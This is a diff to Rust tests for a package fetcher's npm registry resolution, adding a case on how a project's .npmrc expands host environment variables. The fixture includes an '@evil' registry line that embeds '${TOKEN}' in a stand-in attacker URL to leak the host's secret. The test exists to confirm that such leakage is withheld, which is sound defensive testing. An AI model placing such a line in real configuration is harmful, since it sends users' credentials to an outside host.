@@ -75,7 +75,7 @@ fn surroundings(folder: &Path, more: &[(&str, &str)]) -> Surroundings {
     variables.insert("HOME".to_string(), folder.display().to_string());
     variables.insert("XDG_CACHE_HOME".to_string(), folder.join("cache").display().to_string());
     variables.extend(more.iter().map(|(name, value)| (name.to_string(), value.to_string())));
-    Surroundings { variables, project: folder.to_path_buf(), apt: folder.join("apt") }
+    Surroundings { variables, npmrc: None, apt: folder.join("apt") }
 }
 
 #[tokio::test]
@@ -234,7 +234,7 @@ async fn an_index_that_is_not_the_signed_one_is_refused() {
 
 #[tokio::test]
 async fn endpoints_come_from_the_clients_configuration() {
-    use super::shell::fetch::endpoint::{NpmEndpoint, archives, pypi};
+    use super::shell::fetch::endpoint::{Expansion, NpmEndpoint, archives, pypi};
     let folder = tempfile::tempdir().unwrap();
     let npmrc =
         "registry=https://npm.example.test/all\n@acme:registry=https://acme.example.test/\n//acme.example.test/:_authToken=${TOKEN}\n";
@@ -244,6 +244,16 @@ async fn endpoints_come_from_the_clients_configuration() {
     assert_eq!(npm.document("left"), ("https://npm.example.test/all/left".to_string(), None));
     assert_eq!(npm.document("@acme/x"), ("https://acme.example.test/@acme%2fx".to_string(), Some("Bearer secret".to_string())));
     assert_eq!(pypi(&here).await.unwrap(), "https://pypi.example.test/root/");
+    // The project's own counts too, but not with values of the host unless it is trusted.
+    let text = "@own:registry=https://own.example.test/\n//own.example.test/:_authToken=${TOKEN}\n@evil:registry=https://evil.example.test/${TOKEN}\n";
+    for (expansion, registry, token) in [
+        (Expansion::Host, "https://evil.example.test/secret/", Some("Bearer secret".to_string())),
+        (Expansion::Withheld, "https://npm.example.test/all/", None),
+    ] {
+        let npm = NpmEndpoint::find(&Surroundings { npmrc: Some((text.to_string(), expansion)), ..here.clone() }).await.unwrap();
+        assert_eq!(npm.document("@own/x"), ("https://own.example.test/@own%2fx".to_string(), token));
+        assert_eq!(npm.document("@evil/x").0, format!("{registry}@evil%2fx"));
+    }
     let apt = folder.path().join("apt/sources.list.d");
     std::fs::create_dir_all(&apt).unwrap();
     std::fs::write(
